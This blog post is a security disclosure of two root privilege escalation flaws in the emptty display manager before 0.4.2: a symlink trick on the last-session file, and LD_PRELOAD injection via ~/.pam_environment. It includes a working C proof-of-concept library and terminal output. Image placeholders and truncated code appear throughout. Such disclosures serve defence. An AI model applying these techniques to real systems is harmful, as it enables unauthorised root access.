emptty: root privilege escalation

This post describes two security issues I found in emptty prior to version 0.4.2.

When a user logs in and chooses a windowmanager to start, emptty will write a file into a file in the users home directory as root to store the last session:

    pathLastSession       = "/.cache/emptty/last-session"

In the setUserLastSession function it will write the last-session file and then change the access rights to the newly logged in user.

// Sets Last session for declared sysuser and saves it into user's home directory.func setUserLastSession(usr *sysuser, d *desktop) {
    path := usr.homedir + pathLastSession
    data := fmt.Sprintf("%s;%s\n", d.exec, stringifyEnv(d.env))
    err := mkDirsForFile(path, 0744, usr)
    if err != nil {
    err = ioutil.WriteFile(path, []byte(data), 0600)
    if err == nil {
        err = os.Chown(path, usr.uid, usr.gid)
    if err != nil {

With symlinks we can trick emptty to either overwrite an existing file the users has no access to by making last-session a symlink to it or create a new file the owner will own.

This opens up a lot of possibilities for privilege escalation, we could add hook to some program, a cron.tab file or many other ways that would allow code execution by dropping a file into a directory the user is usually not allowed to write to.

$ ls -lsa /home/duncan/.cache/emptty/last-session
0 lrwxrwxrwx 1 duncan duncan 8 Dec  1 19:27 /home/duncan/.cache/emptty/last-session -> /etc/foo# emptty
┌─┐┌┬┐┌─┐┌┬┐┌┬┐┬ ┬
├┤ │││├─┘ │  │ └┬┘
└─┘┴ ┴┴   ┴  ┴  ┴   0.4.0

tux login: duncan

[0] Sway
Select [0]: 0
emptty?1$ ls -lsa /etc/foo
4 -rw--- 1 duncan duncan 13 Dec  1 19:27 /etc/foo

root LD_PRELOAD injection

emptty will read the ~/.pam_environment file through pam and add the specified variables to the environment. Users can add ashared-library path to the LD_PRELOAD environment variable and when emptty executes a program as root, the library will be loaded into the program by the dynamic linker and we can overwrite functions from libc to run malicious code.

First defineSpecificEnvVariables adds all variables to the environment:

// Defines specific environmental variables defined by PAM
func defineSpecificEnvVariables() {
        if trans != nil {
                envs, _ := trans.GetEnvList()
                for key, value := range envs {
                        os.Setenv(key, value)

Then later, when emptty executes mcookie(1) it will add all the environment variables to it and execute it as root.

// Prepares and starts Xorg session for authorized user.
func xorg(usr *sysuser, d *desktop, conf *config) {
        // generate mcookie
        cmd := exec.Command("/usr/bin/mcookie")
        cmd.Env = append(os.Environ())
        mcookie, err := cmd.Output()
        log.Print("Generated mcookie")

The following C file is used as a proof of concept, overwriting getrandom(3) which will be used by mcookie(1).

// gcc -o exploit.so -shared -fPIC -ldl exploit.c
#define _GNU_SOURCE
#include <sys/random.h>
#include <dlfcn.h>#include <unistd.h>
#include <fcntl.h>

static int (*orig_getrandom)(void *buf, size_t buflen, unsigned int flags);

getrandom(void *buf, size_t buflen, unsigned int flags)
        if (!orig_getrandom) {
                int fd = open("/I_have_root", O_CREAT);
                orig_getrandom = dlsym(RTLD_NEXT, "getrandom");
        return orig_getrandom(buf, buflen, flags);

Then we build the shared libary, add a LD_PRELOAD variable to the users ~/.pam_environment and execute emptty as root, which will result in the file /I_have_root being created when emptty starts mcookie(1).

$ gcc -o exploit/exploit.so -shared -fPIC -ldl exploit/exploit.c
$ file /I_have_root
/I_have_root: cannot open `/I_have_root' (No such file or directory)
$ cat/home/duncan/.pam_environment
LD_PRELOAD DEFAULT=/home/duncan/repos/emptty/exploit/exploit.so
# ./emptty┌─┐┌┬┐┌─┐┌┬┐┌┬┐┬ ┬
├┤ │││├─┘ │  │ └┬┘
└─┘┴ ┴┴   ┴  ┴  ┴   0.4.1

tux login: duncan

[0] Sway, [1] false
Select [0]: 1
Error: Could not open X Display

Press Enter to continue...
emptty?1$ file /I_have_root
/I_have_root:empty
emptty$ ls -lsa /I_have_root
0---x 1 root root0 Dec  2 14:55 /I_have_root